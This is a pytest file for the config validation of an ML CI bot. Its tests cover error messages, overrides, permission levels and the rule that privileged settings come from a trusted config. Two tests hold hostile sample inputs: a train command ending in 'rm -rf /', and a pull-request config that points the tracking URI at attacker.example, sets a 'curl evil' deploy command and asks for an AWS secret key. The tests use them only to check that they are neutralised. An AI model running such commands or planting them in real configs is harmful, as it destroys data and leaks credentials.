"""Config validation: one test per kind of error, each checking the path, the value and the fix."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from cml_bot.config import (
    apply_overrides,
    load_config,
    parse_config,
    parse_overrides,
    permission_at_least,
)
from cml_bot.core.errors import EXIT_CONFIG, ConfigError

EXAMPLE = Path(__file__).parents[2] / "examples" / "breast-cancer" / "cml-bot.yaml"


def base() -> dict[str, Any]:
    return {
        "model": {"name": "churn", "task": "classification"},
        "train": {"data": "data/train.csv", "target": "churned"},
    }


def error_of(data: Any) -> str:
    with pytest.raises(ConfigError) as info:
        parse_config(data)
    assert info.value.exit_code == EXIT_CONFIG
    return str(info.value)


def test_minimal_config_gets_defaults() -> None:
    cfg = parse_config(base())
    assert cfg.evaluate.metrics == ["accuracy", "f1_macro"]
    assert cfg.baseline == "champion"
    assert cfg.estimator == "sklearn.ensemble.RandomForestClassifier"
    assert cfg.commands.deploy.permission == "maintain"
    assert cfg.report.max_chars == 65000


def test_bundled_example_is_valid() -> None:
    cfg = load_config(EXAMPLE)
    assert cfg.model.name == "tumor-classifier"
    assert cfg.resolve("data/tumors.csv").is_file()


def test_unknown_key_suggests_the_close_one() -> None:
    data = base()
    data["trian"] = {}
    msg = error_of(data)
    assert "trian: unknown key 'trian'" in msg
    assert "did you mean 'train'?" in msg


def test_unknown_nested_key_lists_allowed_keys() -> None:
    data = base()
    data["evaluate"] = {"zzz": 1}
    msg = error_of(data)
    assert "evaluate.zzz: unknown key 'zzz'" in msg
    assert "allowed keys here: data, test_size, metrics" in msg


def test_unknown_scorer_suggests_closest_names() -> None:
    data = base()
    data["evaluate"] = {"metrics": ["accuracy", "roc_aux"]}
    msg = error_of(data)
    assert "evaluate.metrics[1]: 'roc_aux' is not a scikit-learn scorer" in msg
    assert "did you mean 'roc_auc'" in msg


def test_loss_name_without_neg_prefix_suggests_the_scorer() -> None:
    data = base()
    data["model"]["task"] = "regression"
    data["evaluate"] = {"metrics": ["mean_squared_error"]}
    assert "'neg_mean_squared_error'" in error_of(data)


def test_metric_of_the_other_task() -> None:
    data = base()
    data["evaluate"] = {"metrics": ["r2"]}
    msg = error_of(data)
    assert "evaluate.metrics[0]: 'r2' is a regression metric" in msg
    assert "model.task is classification" in msg


def test_gate_on_a_metric_that_is_not_evaluated() -> None:
    data = base()
    data["gates"] = {"roc_auc": {"min": 0.8}}
    msg = error_of(data)
    assert "gates.roc_auc: 'roc_auc' gates a metric that is not evaluated" in msg
    assert "add it to evaluate.metrics" in msg


def test_wrong_type_names_value_and_fix() -> None:
    data = base()
    data["evaluate"] = {"test_size": "a lot"}
    msg = error_of(data)
    assert "evaluate.test_size" in msg and "'a lot'" in msg
    assert "fix: write a number" in msg


def test_out_of_range_number() -> None:
    data = base()
    data["evaluate"] = {"test_size": 1.5}
    msg = error_of(data)
    assert "evaluate.test_size: 1.5 must be less than 1" in msg


def test_literal_lists_the_choices() -> None:
    data = base()
    data["commands"] = {"retrain": {"permission": "god"}}
    msg = error_of(data)
    assert "commands.retrain.permission: 'god' is not allowed" in msg
    assert "'maintain'" in msg


def test_missing_required_section() -> None:
    msg = error_of({"train": {"data": "x.csv", "target": "y"}})
    assert "model: required but missing" in msg


def test_trainer_must_be_chosen() -> None:
    data = base()
    data["train"] = {"target": "y"}
    assert "train: has nothing to train from: neither `data` nor `command` is set" in error_of(data)


def test_target_required_for_a_data_file() -> None:
    data = base()
    del data["train"]["target"]
    assert "train.target: is required with a data file" in error_of(data)


def test_min_above_max() -> None:
    data = base()
    data["gates"] = {"accuracy": {"min": 0.9, "max": 0.5}}
    assert "min (0.9) is above max (0.5)" in error_of(data)


def test_bad_model_name() -> None:
    data = base()
    data["model"]["name"] = "my model!"
    msg = error_of(data)
    assert "model.name" in msg and "no spaces" in msg


def test_top_level_not_a_mapping() -> None:
    assert "top level must be a mapping" in error_of(["a", "b"])


def test_several_problems_are_all_reported() -> None:
    data = base()
    data["evaluate"] = {"test_size": 2, "confidence": "high"}
    msg = error_of(data)
    assert "(2 problems)" in msg


def test_command_string_is_split_not_shelled() -> None:
    data = base()
    data["train"] = {"command": "python train.py --out '{output_dir}' ; rm -rf /"}
    cfg = parse_config(data)
    assert cfg.train.command == [
        "python",
        "train.py",
        "--out",
        "{output_dir}",
        ";",
        "rm",
        "-rf",
        "/",
    ]


def test_file_not_found(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as info:
        load_config(tmp_path / "nope.yaml")
    assert "config file not found" in str(info.value)
    assert "cml-bot init" in str(info.value)


def test_yaml_syntax_error_has_line(tmp_path: Path) -> None:
    path = tmp_path / "cml-bot.yaml"
    path.write_text("model:\n  name: [unclosed\ntrain: {}\n")
    with pytest.raises(ConfigError) as info:
        load_config(path)
    assert "not valid YAML at line" in str(info.value)


def test_relative_paths_resolve_against_the_config_folder(tmp_path: Path) -> None:
    path = tmp_path / "sub" / "cml-bot.yaml"
    path.parent.mkdir()
    path.write_text(yaml.safe_dump(base()))
    cfg = load_config(path)
    assert cfg.resolve("data/train.csv") == tmp_path / "sub" / "data" / "train.csv"


def test_overrides_parse_yaml_scalars() -> None:
    got = parse_overrides(
        ["n_estimators=300", "max_depth=null", "criterion=gini", "x=1.5", "flag=true", "name='a b'"]
    )
    assert got == {
        "n_estimators": 300,
        "max_depth": None,
        "criterion": "gini",
        "x": 1.5,
        "flag": True,
        "name": "a b",
    }


@pytest.mark.parametrize("bad", ["novalue", "=3", "a b=1", "x=[1, 2]"])
def test_bad_overrides(bad: str) -> None:
    with pytest.raises(ConfigError):
        parse_overrides([bad])


def test_apply_overrides_validates_again() -> None:
    cfg = parse_config(base())
    new = apply_overrides(cfg, {"evaluate.test_size": 0.4, "n_estimators": 5})
    assert new.evaluate.test_size == 0.4
    assert new.train.params == {"n_estimators": 5}
    with pytest.raises(ConfigError) as info:
        apply_overrides(cfg, {"evaluate.test_size": 7})
    assert "evaluate.test_size" in str(info.value)


def test_permission_order() -> None:
    assert permission_at_least("admin", "maintain")
    assert permission_at_least("write", "write")
    assert not permission_at_least("triage", "write")
    assert not permission_at_least("unknown", "read")


# ------------------------------------------------------------------------ privileged settings


def test_every_privileged_setting_comes_from_the_trusted_config() -> None:
    from cml_bot.config import PRIVILEGED, with_trusted

    base = {"model": {"name": "m"}, "train": {"data": "sklearn:iris", "target": "y"}}
    trusted = parse_config({**base, "gates": {"accuracy": {"min": 0.9}}})
    own = parse_config(
        {
            **base,
            "train": {**base["train"], "env": ["AWS_SECRET_ACCESS_KEY"], "params": {"x": 1}},
            "gates": {"accuracy": {"min": 0.1}},
            "baseline": "none",
            "registry": {"tracking_uri": "http://attacker.example"},
            "deploy": {"command": ["sh", "-c", "curl evil"]},
            "commands": {"retrain": {"permission": "none"}},
            "verdict": {"inconclusive": "pass"},
        }
    )
    merged, changed = with_trusted(own, trusted)
    assert changed == list(PRIVILEGED)
    assert merged.gates == trusted.gates and merged.baseline == "champion"
    assert merged.registry.tracking_uri is None and merged.deploy.command is None
    assert merged.commands == trusted.commands and merged.train.env == []
    assert merged.verdict.inconclusive == "fail"
    assert merged.train.params == {"x": 1}  # the model itself stays the pull request's
    same, nothing = with_trusted(trusted, trusted)
    assert nothing == [] and same == trusted
